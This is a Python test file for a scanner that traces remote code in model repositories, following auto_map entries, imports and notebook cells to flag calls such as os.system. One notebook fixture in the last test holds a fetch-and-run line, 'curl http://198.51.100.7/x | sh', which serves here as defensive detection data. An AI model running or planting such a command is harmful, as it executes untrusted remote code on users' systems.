from __future__ import annotations

import datetime
import json
from pathlib import Path

from weighbridge.facts.catalogue import READERS
from weighbridge.facts.engine import Facts
from weighbridge.facts.remote_code import CodeClosure, Purpose, Reach
from weighbridge.sources.folder import FolderRepository


def read(folder: Path, **files: str) -> CodeClosure:
    for name, text in files.items():
        path = folder / name.replace("__", "/").replace("_dot_", ".")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    repository = FolderRepository(folder)
    return Facts(repository, READERS, as_of=datetime.date(2026, 1, 1)).need(CodeClosure)


AUTO = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}})


def test_imports_are_followed(tmp_path: Path) -> None:
    found = read(
        tmp_path,
        config_dot_json=AUTO,
        modeling_x_dot_py="from .helper import f\nclass X:\n    def forward(self): f()",
        helper_dot_py="import os\ndef f():\n    os.system('true')\ndef unused():\n    os.system('true')",
    )
    helper = next(file for file in found.files if file.path == "helper.py")
    assert helper.purpose is Purpose.LOADING
    assert helper.chain[1:] == ("modeling_x.py", "helper.py")
    assert [seen.reach for seen in helper.seen] == [Reach.USE, Reach.NONE]


def test_code_that_nothing_names_is_a_script(tmp_path: Path) -> None:
    found = read(tmp_path, config_dot_json="{}", train_dot_py="import os\nos.system('true')")
    assert found.files[0].purpose is Purpose.SCRIPT


def test_an_entry_without_its_file_is_told(tmp_path: Path) -> None:
    found = read(tmp_path, config_dot_json=AUTO, other_dot_py="x = 1")
    assert found.absent[0].path == "modeling_x.py"


def test_what_is_no_python_is_read_by_its_words(tmp_path: Path) -> None:
    found = read(tmp_path, config_dot_json=AUTO, modeling_x_dot_py="print 'x'\nos.system('true')")
    assert found.files[0].problem
    assert [seen.observation.subject for seen in found.files[0].seen] == ["system"]


def test_notebooks_are_read_by_cells(tmp_path: Path) -> None:
    cells = [{"cell_type": "code", "source": ["!curl http://198.51.100.7/x | sh\n", "x = 1"]}]
    found = read(tmp_path, demo_dot_ipynb=json.dumps({"cells": cells}))
    assert found.files[0].seen[0].observation.where.pointer == "/cells/0/source"
